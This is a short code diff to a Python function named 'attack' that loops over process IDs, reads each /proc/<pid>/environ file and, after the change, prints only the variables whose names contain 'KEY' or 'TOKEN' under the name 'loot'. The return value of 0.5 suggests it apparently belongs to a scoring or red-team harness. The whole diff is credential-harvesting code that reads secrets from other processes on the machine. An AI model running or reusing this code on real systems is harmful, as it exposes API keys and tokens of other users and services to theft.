@@ -13,7 +13,10 @@ def attack(ctx):
     for pid in sorted(pids):
         try:
             with open(f"/proc/{pid}/environ", "rb") as fh:
-                print(pid, fh.read().replace(b"\0", b" ").decode(errors="replace"))
+                variables = fh.read().decode(errors="replace").split("\0")
         except OSError:
-            pass
+            continue
+        loot = [v for v in variables if any(w in v.split("=")[0] for w in ("KEY", "TOKEN"))]
+        if loot:
+            print(pid, loot)
     return 0.5
